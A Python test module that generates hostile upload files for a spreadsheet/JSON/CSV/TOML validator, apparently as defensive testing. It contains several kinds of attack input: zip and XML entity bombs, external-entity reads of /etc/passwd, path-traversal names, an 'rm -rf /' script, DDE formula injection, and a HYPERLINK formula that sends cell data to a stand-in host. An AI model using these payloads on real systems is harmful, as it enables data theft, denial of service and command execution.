"""A corpus of hostile files, made by code: what each tries, and the words that refuse it.

An empty string of words means that any clear refusal will do (on a slow machine it may be that of
time); None that the file is read, and what it tried does nothing.
"""

from __future__ import annotations

import gzip
import json
from dataclasses import dataclass
from random import Random
from typing import Any

from tests.files.guard.packing import (
    SHEET,
    book_bytes,
    entry,
    in_part,
    lie,
    pack,
    parts,
    sheet_xml,
    with_texts,
    workbook,
)
from tests.files.markets import least

MIB = 1 << 20
FORMULA = '=HYPERLINK("http://x.example/?"&A1,"click")'


@dataclass(frozen=True)
class Hostile:
    """A file, what it is called, and the words of the fault that refuses it."""

    case: str
    content: bytes
    words: str | None
    name: str = "m.xlsx"
    reader: str = "market"


def corpus() -> list[Hostile]:
    """Return every hostile file; the same on every call."""
    return [
        *_not_what_they_say(), *_archives(), *_lying_archives(), *_entities(), *_active(),
        *_far_and_many(), *_broken_parts(), *_json(), *_csv(), *_toml(), *_forms(), *_formulas(),
    ]  # fmt: skip


# --- kinds ------------------------------------------------------------------------------------


def _not_what_they_say() -> list[Hostile]:
    ole = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600
    word = pack([entry("[Content_Types].xml", b"<Types/>"), entry("word/document.xml", b"<d/>")])
    sheet = pack([entry("mimetype", b"application/vnd.oasis.opendocument.spreadsheet", 0)])
    return [
        Hostile("a program", b"MZ\x90\0" + b"\0" * 100, "is no .xlsx"),
        Hostile("an old workbook", ole, "old .xls"),
        Hostile("an old workbook by name", ole, "old .xls", "m.xls"),
        Hostile("macros by name", workbook(), "with macros", "m.xlsm"),
        Hostile("a binary workbook", workbook(), "binary", "m.xlsb"),
        Hostile("a PDF", b"%PDF-1.7\n", "is no .xlsx"),
        Hostile("a page", b"<html><script>alert(1)</script></html>", "is no .xlsx"),
        Hostile("a picture as CSV", b"\x89PNG\r\n\x1a\n\0\0", "not what the name says", "机构.csv"),
        Hostile("gzip as CSV", gzip.compress(b"\0" * MIB, mtime=0), "not what", "机构.csv"),
        Hostile("a workbook as JSON", workbook(), "not what the name says", "m.json"),
        Hostile("XML as JSON", b"<?xml version='1.0'?><x/>", "not what the name says", "m.json"),
        Hostile("a document of words", word, "is no .xlsx"),
        Hostile("an OpenDocument sheet", sheet, "is no .xlsx"),
        Hostile("nothing", b"", "is empty"),
        Hostile("a script", b"#!/bin/sh\nrm -rf /\n", "not a kind of file", "m.sh"),
        Hostile("no ending", b"x", "not a kind of file", "m"),
        Hostile("too large", b"a," * (8 * MIB + 1), "too large", "机构.csv"),
        Hostile("a path as name", b"PK\3\4", "breaks off", "../../etc/cron.d/m.xlsx"),
        Hostile("controls in its name", b"PK\3\4", "breaks off", "\x1b[2J\u202em.xlsx"),
    ]


# --- archives ---------------------------------------------------------------------------------


def _archives() -> list[Hostile]:
    zeros = sheet_xml(b" " * (24 * MIB))
    zeros_too = entry("xl/media/0.bin", b"\0" * (3 * MIB))
    inner = pack([entry("a.xml", b"<a/>")])
    many = [entry(f"xl/media/{n}.png", b"") for n in range(3_000)]
    picture = entry("xl/media/a.png", b"x")
    return [
        Hostile("breaks off", workbook()[:-30], "breaks off"),
        Hostile("only a head", b"PK\3\4" + b"\0" * 30, "breaks off"),
        Hostile("a bomb in a sheet", workbook({SHEET: zeros}), "more than it holds"),
        Hostile("a bomb beside it", workbook(more=[entry("xl/media/z.bin", b"\0" * (24 * MIB))]),
                "more than it holds"),
        Hostile("claims 4 GB", workbook(more=[lie(picture, size=0xFFFFFFF0)]), "too much"),
        Hostile("many bombs", workbook(more=[lie(zeros_too, name=b"xl/media/%d.bin" % n,
                                                 local_name=b"xl/media/%d.bin" % n)
                                             for n in range(40)]), "more than it holds"),
        Hostile("an archive inside", workbook(more=[entry("xl/media/a.zip", inner)]),
                "archive inside"),
        Hostile("an archive inside, hidden", workbook(more=[entry("xl/media/a.png", inner)]),
                "archive inside"),
        Hostile("too many members", workbook(more=many), "too many members"),
        Hostile("sixty thousand members", pack([entry(b"%d" % n, b"", 0) for n in range(60_000)]),
                "too many members"),
        Hostile("one name twice", workbook(more=[entry(SHEET, b"<a/>")]), "one name"),
        Hostile("one name in two cases", workbook(more=[entry(SHEET.upper(), b"<a/>")]),
                "one name"),
        Hostile("an absolute path", workbook(more=[entry("/etc/passwd", b"x")]), "leads out"),
        Hostile("a path upwards", workbook(more=[entry("xl/../../x", b"x")]), "leads out"),
        Hostile("a path upwards, backwards", workbook(more=[entry("..\\..\\x", b"x")]),
                "leads out"),
        Hostile("a drive", workbook(more=[entry("C:/windows/x", b"x")]), "leads out"),
        Hostile("a NUL in a name", workbook(more=[entry("xl/a.xml\0.png", b"x")]), "not allowed"),
        Hostile("a link", workbook(more=[lie(picture, attributes=0o120777 << 16)]), "is a link"),
    ]  # fmt: skip


def _lying_archives() -> list[Hostile]:
    honest = [entry(name, data) for name, data in parts().items()]
    sheet = entry("xl/worksheets/sheet9.xml", sheet_xml(b" " * (20 * MIB)))
    picture = entry("xl/media/a.png", b"x" * 1000)
    kernel = entry("xl/media/k.bin", Random(0).randbytes(20_000))
    shared = [kernel, *(lie(kernel, name=b"xl/media/k%d.bin" % n, at=0) for n in range(300))]
    alike = pack([kernel, *(lie(kernel, at=0) for _ in range(300)), *honest])
    inner = pack([kernel])[: 30 + len(kernel.name) + kernel.packed]
    outer = entry("a.bin", inner, 0)
    quoting = pack([outer, lie(kernel, at=30 + len(outer.name)), *honest])
    inside = pack([lie(picture, data=pack([entry("b", b"x")]), method=0, packed=130, size=130)])
    encrypted = [lie(item, flags=item.flags | 1) for item in honest]
    return [
        Hostile("says it is small", workbook(more=[lie(sheet, size=100)]), "size that it says"),
        Hostile("says it is large", workbook(more=[lie(picture, size=2000)]), "size that it says"),
        Hostile("two sizes", workbook(more=[lie(picture, local_size=1)]), "other than"),
        Hostile("two names", workbook(more=[lie(picture, local_name=b"xl/media/b.png")]),
                "other than"),
        Hostile("one member by many names", pack([*shared, *honest]), "other than"),
        Hostile("one member many times", alike, "overlap"),
        Hostile("a member inside a member", quoting, "overlap"),
        Hostile("a member beyond the directory", pack([*honest, lie(picture, packed=10**6)]),
                "other than"),
        Hostile("an archive as a member", inside, "is no .xlsx"),
        Hostile("encrypted", pack(encrypted), "encrypted"),
        Hostile("packed in a way nobody knows", workbook(more=[lie(picture, method=99)]),
                "in a way that is not read"),
        Hostile("packed by LZMA", workbook(more=[lie(picture, method=14)]), "not read"),
        Hostile("fewer members than it has", pack(honest, count=3), "not sound"),
        Hostile("something behind it", workbook() + b"MZ" * 100, "end where it says"),
        Hostile("two archives, one behind the other", pack(honest) + pack(honest), "where the"),
        Hostile("bytes behind a member's end",
                workbook(more=[lie(picture, data=picture.data + b"!" * 50,
                                   packed=picture.packed + 50)]), "size that it says"),
        Hostile("a member that is noise",
                workbook(more=[lie(picture, data=b"\xff" * 50, packed=50)]), "size that it says"),
        Hostile("a member that breaks off",
                workbook(more=[lie(picture, data=picture.data[:-4], packed=picture.packed - 4)]),
                "size that it says"),
        Hostile("a wrong checksum", pack([lie(item, crc=1) for item in honest]), "not a sound"),
        Hostile("sizes of 64 bits", workbook(more=[lie(picture, size=0xFFFFFFFF,
                                                       packed=0xFFFFFFFF)]), ""),
    ]  # fmt: skip


# --- XML --------------------------------------------------------------------------------------


def _laughs(levels: int = 9, each: int = 10) -> bytes:
    lines = [b'<!ENTITY a0 "lol">']
    lines += [b'<!ENTITY a%d "%s">' % (n, b"&a%d;" % (n - 1) * each) for n in range(1, levels)]
    return b"<!DOCTYPE x [" + b"".join(lines) + b"]>"


def _entities() -> list[Hostile]:
    cell = b'<row r="1"><c r="A1" t="inlineStr"><is><t>%s</t></is></c></row>'
    bomb = sheet_xml(cell % b"&a8;", head=_laughs())
    big = b'<!DOCTYPE x [<!ENTITY a "%s">]>' % (b"x" * 50_000)
    file = b'<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>'
    away = b'<!DOCTYPE x SYSTEM "http://x.example/x.dtd">'
    parameter = b'<!DOCTYPE x [<!ENTITY % a SYSTEM "http://x.example/a">%a;]>'
    wide = sheet_xml(cell % b"&a8;", head=_laughs()).decode()
    attributes = b"".join(b' a%d="1"' % n for n in range(20_000))

    def before(name: str, declaration: bytes) -> dict[str, bytes]:
        data = parts()[name]
        at = data.index(b"?>") + 2 if data.startswith(b"<?xml") else 0
        return {name: data[:at] + declaration + data[at:]}

    return [
        Hostile("a billion laughs", workbook({SHEET: bomb}), "declares"),
        Hostile("a large entity, often", workbook({SHEET: sheet_xml(cell % (b"&a;" * 10_000),
                                                                   head=big)}), "declares"),
        Hostile("a file as entity", workbook({SHEET: sheet_xml(cell % b"&a;", head=file)}),
                "declares"),
        *(Hostile(f"laughs in {name}", workbook(before(name, _laughs())), "declares")
          for name in ("[Content_Types].xml", "_rels/.rels", "xl/workbook.xml", "xl/styles.xml",
                       "xl/_rels/workbook.xml.rels", "docProps/core.xml")),
        Hostile("laughs in the texts", workbook(with_texts(b"<si><t>&a8;</t></si>", _laughs())),
                "declares"),
        Hostile("a DTD from elsewhere", workbook(before("xl/workbook.xml", away)), "declares"),
        Hostile("a parameter entity", workbook(before("xl/workbook.xml", parameter)), "declares"),
        Hostile("laughs in UTF-16", workbook({SHEET: wide.encode("utf-16")}), "not UTF-8"),
        Hostile("laughs in UTF-16 without a mark", workbook({SHEET: wide.encode("utf-16-le")}),
                "NUL"),
        Hostile("laughs in EBCDIC", workbook({SHEET: wide.encode("cp037")}), ""),
        Hostile("another encoding", workbook({SHEET: sheet_xml(b"").replace(
            b'"1.0"?', b'"1.0" encoding="utf-7"?')}), "not UTF-8"),
        Hostile("nested a hundred thousand deep",
                workbook({SHEET: sheet_xml(b"<a>" * 100_000 + b"</a>" * 100_000)}), ""),
        Hostile("a tag of twenty thousand attributes",
                workbook({SHEET: sheet_xml(b"<row" + attributes + b"/>")}), ""),
        Hostile("a tag of half a megabyte",
                workbook({SHEET: sheet_xml(b'<row a="%s"/>' % Random(1).randbytes(300_000).hex()
                                           .encode())}), "too long"),
    ]  # fmt: skip


def _active() -> list[Hostile]:
    kinds = b"application/vnd.ms-excel.sheet.macroEnabled.main+xml"
    plain = b"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
    office = b"http://schemas.openxmlformats.org/officeDocument/2006/relationships"

    def relation(kind: bytes, target: bytes) -> dict[str, bytes]:
        tag = b'<Relationship Id="r9" Type="%s/%s" Target="%s" TargetMode="External"/>'
        end = b"</Relationships>"
        return in_part("xl/_rels/workbook.xml.rels", end, tag % (office, kind, target) + end)

    return [
        Hostile("macros", workbook(more=[entry("xl/vbaProject.bin", b"x")]), "macros"),
        Hostile("macros by type", workbook(in_part("[Content_Types].xml", plain, kinds)), "macros"),
        Hostile("a macro sheet", workbook(more=[entry("xl/macrosheets/sheet1.xml", b"<a/>")]),
                "macros"),
        Hostile("a control", workbook(more=[entry("xl/activeX/activeX1.bin", b"x")]), "macros"),
        Hostile("a file inside", workbook(more=[entry("xl/embeddings/oleObject1.bin", b"x")]),
                "embedded"),
        Hostile("a link to a file", workbook(more=[entry("xl/externalLinks/externalLink1.xml",
                                                         b"<a/>")]), "links to"),
        Hostile("a data connection", workbook(more=[entry("xl/connections.xml", b"<a/>")]),
                "links to"),
        Hostile("a query", workbook(more=[entry("xl/queryTables/queryTable1.xml", b"<a/>")]),
                "links to"),
        Hostile("a picture from elsewhere", workbook(relation(b"image", b"http://x.example/a")),
                "links to"),
        Hostile("a template from a share", workbook(relation(b"attachedTemplate",
                                                             b"file://x.example/a")), "links to"),
    ]  # fmt: skip


def _far_and_many() -> list[Hostile]:
    """Small files that say much, in one way or another."""
    cell = b'<row r="%d"><c r="%s"><v>1</v></c></row>'
    book = parts()["xl/workbook.xml"]
    tag = b'<sheet name="s%d" sheetId="%d" state="visible" r:id="rId1"/>'
    tags = b"".join(tag % (n, n) for n in range(9, 5_000)).replace(
        b"r:id",
        b'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" r:id',
    )
    names = b"".join(b'<definedName name="n%d">A1</definedName>' % n for n in range(60_000))
    two_hundred = [entry(f"xl/worksheets/sheet{n}.xml", sheet_xml(b"")) for n in range(9, 209)]
    words = b"".join(b'<row r="%d"><c r="A%d" t="s"><v>0</v></c><c r="B%d" t="s"><v>0</v></c></row>'
                     % (n, n, n) for n in range(1, 9_000))  # fmt: skip
    long = b"<si><t>%s</t></si>"
    merges = b"".join(b'<mergeCell ref="A%d:ZZ%d"/>' % (n, n + 9) for n in range(1, 9_000, 10))
    areas = b"".join(
        b'<dataValidation type="list" sqref="A1:XFD%d"><formula1>"a"</formula1></dataValidation>'
        % n
        for n in range(1, 8_000)
    )
    styles = parts()["xl/styles.xml"].replace(b"<cellXfs", b"<cellXfs><xf/></cellXfs><cellXfs", 1)
    xfs = b"".join(b'<xf numFmtId="%d" fontId="0"/>' % (n % 60) for n in range(60_000))

    def sheet(rows: bytes, **more: bytes) -> bytes:
        return workbook({SHEET: sheet_xml(rows, **more)})

    return [
        Hostile("the last cell", sheet(cell % (1_048_576, b"XFD1048576")), "far outside"),
        Hostile("the last row", sheet(cell % (1_048_576, b"A1048576")), "far outside"),
        Hostile("the last column", sheet(cell % (1, b"XFD1")), "far outside"),
        Hostile("a row beyond the last", sheet(b'<row r="99999999999"/>'), "far outside"),
        Hostile("a far cell in small letters", sheet(cell % (1, b"xfd1")), "far outside"),
        Hostile("a far cell by a character reference",
                sheet(b'<row r="1"><c r="&#88;FD1"><v>1</v></c></row>'), ""),
        Hostile("claims to be huge", sheet(b"", dimension=b'<dimension ref="A1:XFD1048576"/>'),
                "too large"),
        Hostile("a merged cell over all", sheet(cell % (1, b"A1"), after=b'<mergeCells><mergeCell '
                b'ref="A1:XFD1048576"/></mergeCells>'), ""),
        Hostile("many merged cells", sheet(cell % (1, b"A1"), after=b"<mergeCells>" + merges
                + b"</mergeCells>"), ""),
        Hostile("a million empty rows", sheet(b"<row/>" * 100_000 + b"<row><c/></row>" * 150_000),
                ""),
        Hostile("a row of cells without end", sheet(b"<row>" + b"<c><v>1</v></c>" * 60_000
                                                    + b"</row>"), ""),
        Hostile("rows again and again", sheet(b'<row r="1"><c r="A1"><v>1</v></c></row>' * 25_000),
                ""),
        Hostile("five thousand sheets of one part",
                workbook({"xl/workbook.xml": book.replace(b"</sheets>", tags + b"</sheets>")}), ""),
        Hostile("two hundred parts of sheets", workbook(more=two_hundred), "too many sheets"),
        Hostile("one long text in every cell", workbook({
            SHEET: sheet_xml(words), **with_texts(long % (b"x" * 32_000))}), ""),
        Hostile("a text of a megabyte", workbook(with_texts(
            long % Random(2).randbytes(MIB // 2).hex().encode())), "too long"),
        Hostile("sixty thousand names",
                workbook({"xl/workbook.xml": book.replace(b"</sheets>", b"</sheets><definedNames>"
                          + names + b"</definedNames>")}), "too many defined names"),
        Hostile("eight thousand drop-downs", sheet(
            cell % (1, b"A1"), after=b'<mergeCells><mergeCell ref="A1:A2"/></mergeCells>'
            b"<dataValidations>" + areas + b"</dataValidations>"), ""),
        Hostile("sixty thousand styles", workbook({"xl/styles.xml": styles.replace(
            b"<cellXfs>", b"<cellXfs>" + xfs, 1)}), ""),
    ]  # fmt: skip


def _broken_parts() -> list[Hostile]:
    def rows(value: bytes, kind: bytes = b"n") -> bytes:
        return workbook({SHEET: sheet_xml(
            b'<row r="1"><c r="A1" t="%s"><v>%s</v></c></row>' % (kind, value))})  # fmt: skip

    def without(*names: str) -> bytes:
        return workbook(change=lambda found: [found.pop(name) for name in names] and None)

    up = in_part("xl/_rels/workbook.xml.rels", b"/xl/worksheets/sheet1.xml",
                 b"/../../../etc/passwd")  # fmt: skip
    return [
        Hostile("no table of types", without("[Content_Types].xml"), "is no .xlsx"),
        Hostile("no workbook", without("xl/workbook.xml"), "is no .xlsx"),
        Hostile("no relations", without("xl/_rels/workbook.xml.rels"), "not a sound"),
        Hostile("no styles and no theme", without("xl/styles.xml", "xl/theme/theme1.xml"), None),
        Hostile("a sheet outside", workbook(up), "is missing"),
        Hostile("a text that is not there", rows(b"999999999", b"s"), ""),
        Hostile("a text before the first", rows(b"-5", b"s"), ""),
        Hostile("a number without measure", rows(b"1e999999999"), ""),
        Hostile("not a number", rows(b"nan"), ""),
        Hostile("a number of a million digits", rows(b"9" * 200_000), ""),
        Hostile("a day after the last", rows(b"1e300", b"d"), ""),
        Hostile("characters that XML does not have", rows(b"\x01\x02\xff"), ""),
        Hostile("a sheet that is no XML", workbook({SHEET: b"\x00\x01" * 1000}), "NUL"),
    ]


# --- text -------------------------------------------------------------------------------------


def _market(**tables: Any) -> bytes:
    return json.dumps({"enterprises": [], **tables}, ensure_ascii=False).encode()


def _need(value: str) -> bytes:
    return (
        b'{"needs": [{"need_id": "N1", "enterprise_id": "E1", "amount_fen": %s}]}' % value.encode()
    )


def _json() -> list[Hostile]:
    keys = b",".join(b'"k%d": 1' % n for n in range(20_000))
    firm = {"enterprise_id": "E1", "name": "a"}
    rule = {"product_id": "P", "institution_id": "B", "name": "p", "criteria": ["(" * 900 + "1"]}
    numeral = {**rule, "criteria": ["营业收入 >= " + "万" * 1_900]}
    named = {**firm, "name": "x" * 200_000}

    def case(title: str, content: bytes, words: str | None, reader: str = "market") -> Hostile:
        return Hostile(title, content, words, "m.json", reader)

    return [
        case("nested without end", b'{"needs": ' + b"[" * 50_000, "too deep"),
        case("nested without end, in objects", b'{"a":' * 50_000, "too deep"),
        case("nested forty deep", b"[" * 40 + b"]" * 40, "too deep"),
        case("brackets in a text", _market(needs=["[" * 1000]), "no object"),
        case("a number of five thousand digits", _need("9" * 5000), "too long"),
        case("a number beyond all measure", _need("1e999999999"), "out of all range"),
        case("a number too small to be", _need("1e-999999999"), "out of all range"),
        case("NaN", _need("NaN"), "NaN"),
        case("infinity", _need("-Infinity"), "Infinity"),
        case("a key twice", b'{"needs": [], "needs": []}', "twice"),
        case("twenty thousand keys twice", b"{" + keys + b"," + keys + b"}", "twice"),
        case("twenty thousand keys", b'{"needs": [{' + keys + b"}]}", "too large"),
        case("twenty thousand tables", b"{" + keys + b"}", ""),
        case("half a surrogate", b'{"needs": [{"need_id": "\\ud800"}]}', ""),
        case("quotation marks without end", b'{"a": "' + b'\\"' * 20_000, "not valid JSON"),
        case("a list", b"[1, 2]", "no object"),
        case("a firm that is too long", _market(enterprises=[named]), ""),
        case("a rule nested without end", _market(products=[rule]), ""),
        case("a numeral without end", _market(products=[numeral]), ""),
        case("twenty thousand rows that are none", _market(needs=[1] * 20_000), ""),
        case("a hundred thousand blank rows", b'{"needs": [' + b"{}," * 9_999 + b"{}]}", ""),
        case("UTF-32", '{"needs": []}'.encode("utf-32"), ""),
        case("not text", b"\xff\xff\xff\xff" * 100, "encoding"),
        case("nothing but spaces", b" " * 30_000, "empty"),
    ]


def _csv() -> list[Hostile]:
    def case(title: str, content: bytes, words: str | None) -> Hostile:
        return Hostile(title, content, words, "机构.csv", "tables")

    head = "机构编号,机构名称\n".encode()
    return [
        case("NUL", head + b"B1,\0\n", "no text file"),
        case("colours of a terminal", head + b"B1,\x1b[31mred\n", "no text file"),
        case("no known encoding", head + b"B1,\xff\xff\xff\n", "encoding"),
        case("half a character", b"\xff\xfe\x00", "encoding"),
        case("half a pair", "机构编号".encode("utf-16") + b"\x00\xd8\x00\xd8", "encoding"),
        case("a quotation without end", head + b'B1,"' + b"x,\n" * 10_000, "not valid CSV"),
        case("a line of a megabyte", head + b"x" * MIB, "too long"),
        case("a line of commas", b"," * 400_000, "too large"),
        case("a row of ten thousand cells", head + b"1," * 10_000, "too large"),
        case("a field of two hundred thousand", head + b'B1,"' + b"x" * 200_000 + b'"',
             "field larger"),
        case("rows without end", head + b"\n" * 200_001 + b"B1,a\n", ""),
        case("ten thousand rows that are wrong", head + b"B1,a\n" * 5_000, "used twice"),
        case("no table of that name", b"a,b\n1,2\n", ""),
    ]  # fmt: skip


def _toml() -> list[Hostile]:
    def case(title: str, content: bytes, words: str | None) -> Hostile:
        return Hostile(title, content, words, "m.toml")

    return [
        case("nested lists", b"a = " + b"[" * 50_000, "too deep"),
        case("nested tables", b"a = " + b"{b = " * 500 + b"1", "too deep"),
        case("a key of ten thousand parts", b"a" + b".a" * 10_000 + b" = 1", "too many parts"),
        case("a table of ten thousand parts", b"[a" + b".a" * 10_000 + b"]", "too many parts"),
        case("keys of many parts", b"".join(b"a%d%s = 1\n" % (n, b".a" * 30) for n in range(300)),
             ""),
        case("a number of ten thousand digits", b"a = " + b"9" * 10_000, "too long"),
        case("a number of ten thousand hex digits", b"a = 0x" + b"f" * 10_000, "too long"),
        case("infinity", b"[[needs]]\nneed_id = 'N'\nenterprise_id = 'E'\namount_fen = inf\n", ""),
        case("a text without end", b'a = """' + b"\\\\" * 20_000, "not valid TOML"),
        case("a key twice", b"a = 1\na = 2", "not valid TOML"),
        case("ten thousand tables", b"[[needs]]\n" * 10_000, ""),
    ]  # fmt: skip


def _forms() -> list[Hostile]:
    def answers(text: bytes, words: str) -> Hostile:
        return Hostile(f"an answer: {text[:20]!r}", text, words, "q.json", "questionnaire")

    twice = b'{"enterprise": {"name": "a", "name": "b"}, "need": {}}'
    return [
        Hostile("a market as form", workbook(), "unknown item", "q.xlsx", "questionnaire"),
        Hostile("a form with laughs", workbook({SHEET: sheet_xml(b"", head=_laughs())}),
                "declares", "q.xlsx", "questionnaire"),
        answers(twice, "twice"),
        answers(b'{"enterprise": ' + b"[" * 1000, "too deep"),
        answers(b'{"enterprise": {"staff": 1e999999999}}', "out of all range"),
    ]  # fmt: skip


def _formulas() -> list[Hostile]:
    """Formulas: one that was never computed is refused, text that looks like one stays text."""
    value = least()
    value["企业"][0]["企业名称"] = "=cmd|' /C calc'!A0"
    text = json.dumps(
        {
            "enterprises": [{"enterprise_id": "E1", "name": FORMULA}],
            "needs": [{"need_id": "N1", "enterprise_id": "E1", "amount_fen": 100}],
            "institutions": [{"institution_id": "B1", "name": "@SUM(1+1)"}],
            "products": [{"product_id": "P1", "institution_id": "B1", "name": "+1|calc"}],
        }
    ).encode()
    plain = "机构编号,机构名称\nB1,=1+1\nB2,＝1+1\nB3,-2+3|calc\n".encode()
    return [
        Hostile("a formula that starts a program", book_bytes(value), "never computed"),
        Hostile("names that are formulas", text, None, "m.json"),
        Hostile("names that are formulas, in CSV", plain, None, "机构.csv", "tables"),
    ]
